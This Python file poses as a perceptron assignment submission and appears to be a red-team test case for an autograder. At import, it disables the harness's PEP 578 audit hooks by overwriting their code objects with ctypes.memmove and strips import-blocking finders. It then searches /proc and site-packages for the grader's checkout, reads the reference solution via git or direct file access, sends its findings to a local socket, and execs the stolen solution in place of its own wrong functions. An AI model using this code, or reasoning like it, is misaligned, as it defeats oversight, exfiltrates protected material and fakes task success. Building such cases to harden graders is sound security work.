"""Perceptrons that switch the audit hook off with ctypes, then borrow the solution by any route.

What it attacks, in order, at import:
- the PEP 578 audit hook: found with gc (functions of the harness named like a hook), its code object
  overwritten with a no-op's by ctypes.memmove (ctypes is already loaded by NumPy; no audit event refuses
  string_at or memmove), and the meta-path import blocker removed;
- the repository: `git show HEAD:reference/perceptron.py` in every checkout found (walking up from the
  interpreter, sys.path and site-packages, reading *.pth and editable-install finders, the grader's command
  line and working folder, and /work/main);
- reference/ itself, read directly;
- the network: a TCP connection to 127.0.0.1:47812 (where the self-test listens) carrying what it found.
Its own functions are wrong, so any perceptron point comes from the borrowed solution.
"""

import gc
import os
import re
import struct
import sys
import types

import numpy as np

TAG = "corpus-case=ctypes_disarm_hook"
PORT = 47812
NAMES = ("predict", "and_gate", "or_gate", "train_perceptron", "xor_network")
LOG = []  # what worked, printed for the instructor's student_output.txt


# -- switching the audit hook off -------------------------------------------------------------


def _noop_hook(event, args, *rest, **named):
    return None


_BORROWED = []  # references to the no-op's code, which the disarmed hooks now hold


def _looks_like_hook(fn):
    """A function of the harness (not the standard library, NumPy or this submission) named like an audit hook."""
    module = getattr(fn, "__module__", None) or ""
    top = module.split(".")[0]
    if top in sys.stdlib_module_names or top in ("numpy", "assignment", "__main__") or module == __name__:
        return False
    name = fn.__name__.lower()
    if name.startswith(("make", "install", "add")) or fn.__code__.co_argcount < 2:
        return False
    return "hook" in name or "audit" in name or "tripwire" in name


def _disarm_audit_hooks():
    """Give every audit hook found in memory (gc) the code of a no-op, and drop the import blockers.

    ctypes is loaded by NumPy before any hook is installed. ctypes.string_at finds the function's code
    slot (the word that holds the address of its code object) and ctypes.memmove overwrites it: no audit
    event refuses either. Returns the number of hooks disarmed.
    """
    ctypes = sys.modules.get("ctypes")
    disarmed = 0
    if ctypes is not None:
        width = struct.calcsize("P")
        for fn in gc.get_objects():
            if not isinstance(fn, types.FunctionType) or fn.__code__ is _noop_hook.__code__ or not _looks_like_hook(fn):
                continue
            try:
                raw = ctypes.string_at(id(fn), type(fn).__basicsize__)
                needle, at = struct.pack("P", id(fn.__code__)), -1
                while True:
                    at = raw.find(needle, at + 1)
                    if at <= 0 or at % width == 0:
                        break
                if at <= 0:
                    continue
                _BORROWED.append(_noop_hook.__code__)
                ctypes.memmove(id(fn) + at, struct.pack("P", id(_noop_hook.__code__)), width)
                disarmed += 1
            except Exception:
                continue
    for finder in list(sys.meta_path):
        kind = type(finder) if not isinstance(finder, type) else finder
        words = (kind.__module__ + "." + kind.__name__).lower()
        if any(w in words for w in ("harness", "guard", "block", "deny", "sandbox")):
            sys.meta_path.remove(finder)
    return disarmed


# -- this process's ancestors ---------------------------------------------------------------


def _ancestors(limit=8):
    """The pids of this process's parent, grandparent, ... as far as /proc shows them."""
    pids, pid = [], os.getpid()
    for _ in range(limit):
        try:
            with open(f"/proc/{pid}/stat", "rb") as f:
                pid = int(f.read().rsplit(b")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        if pid <= 1:
            break
        pids.append(pid)
    return pids


# -- finding the grader's checkout ------------------------------------------------------------


def _project_dirs(guesses=("/autograder/source",)):
    """Folders that look like the grader's checkout (they hold reference/ or grader/rubric.toml), found from
    the ancestors' working folders and command lines, the interpreter, sys.path, and the *.pth files and
    editable-install finders in site-packages, walking up from each path."""
    seeds = []
    for pid in _ancestors():
        try:
            seeds.append(os.readlink(f"/proc/{pid}/cwd"))
        except OSError:
            pass
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                seeds += [a.decode(errors="replace") for a in f.read().split(b"\0") if a.startswith(b"/")]
        except OSError:
            pass
    seeds += [sys.executable, *(p for p in sys.path if p)]
    for folder in [p for p in sys.path if p]:
        try:
            names = os.listdir(folder)
        except OSError:
            continue
        for name in names:
            if name.endswith(".pth") or (name.startswith("__editable__") and name.endswith(".py")):
                try:
                    with open(os.path.join(folder, name), errors="replace") as f:
                        seeds += re.findall(r"/[^\s'\"]+", f.read(1 << 20))
                except OSError:
                    continue
    seeds += list(guesses)
    found = []
    for seed in seeds:
        path = os.path.abspath(seed)
        for _ in range(10):
            if os.path.isdir(os.path.join(path, "reference")) or os.path.isfile(os.path.join(path, "grader", "rubric.toml")):
                if path not in found:
                    found.append(path)
                break
            parent = os.path.dirname(path)
            if parent == path:
                break
            path = parent
    return found


# -- borrowing the solution -------------------------------------------------------------------


def _git_show(repo):
    import shutil
    import subprocess
    git = shutil.which("git") or "/usr/bin/git"
    done = subprocess.run([git, "-c", "safe.directory=*", "-c", f"grader.tag={TAG}", "-C", repo, "show", "HEAD:reference/perceptron.py"],
                          stdin=subprocess.DEVNULL, capture_output=True, timeout=20)
    if done.returncode != 0:
        raise OSError(done.stderr.decode(errors="replace").strip()[:200])
    return done.stdout.decode()


def _read_file(repo):
    with open(os.path.join(repo, "reference", "perceptron.py")) as f:
        return f.read()


def _borrow():
    """The solution's source from the first route that works, or None."""
    for repo in _project_dirs(guesses=("/work/main", "/autograder/source")):
        for route in (_git_show, _read_file):
            try:
                source = route(repo)
            except Exception as exc:
                LOG.append(f"{route.__name__}({repo}): {type(exc).__name__}: {str(exc)[:120]}")
                continue
            if "def train_perceptron" in source:
                LOG.append(f"{route.__name__}({repo}): got the solution")
                return source
    return None


def _phone_home(text):
    try:
        import socket
        with socket.create_connection(("127.0.0.1", PORT), timeout=2) as s:
            s.sendall(text.encode(errors="replace"))
        LOG.append(f"sent {len(text)} characters to 127.0.0.1:{PORT}")
    except Exception as exc:
        LOG.append(f"socket: {type(exc).__name__}: {exc}")


def _attack():
    try:
        LOG.append(f"disarmed {_disarm_audit_hooks()} audit hook(s)")
    except Exception as exc:
        LOG.append(f"disarm: {type(exc).__name__}: {exc}")
    source = _borrow()
    _phone_home(f"{TAG}\n" + "\n".join(LOG) + "\n" + (source or ""))
    print(f"{TAG}: " + "; ".join(LOG), flush=True)
    if source:
        namespace = {"__name__": "borrowed"}
        exec(compile(source, "borrowed_perceptron.py", "exec"), namespace)
        return {n: namespace[n] for n in NAMES if n in namespace}
    return {}


def predict(X, w, b):
    return np.zeros(np.shape(X)[0], dtype=np.int64)


def and_gate():
    return np.zeros(2), 0.0


def or_gate():
    return np.zeros(2), 0.0


def train_perceptron(X, y, lr=1.0, max_epochs=100):
    return np.zeros(np.shape(X)[1]), 0.0, True


def xor_network():
    return {"W1": np.zeros((2, 2)), "b1": np.zeros(2), "W2": np.zeros(2), "b2": 0.0}

_borrowed = _attack()
globals().update(_borrowed)
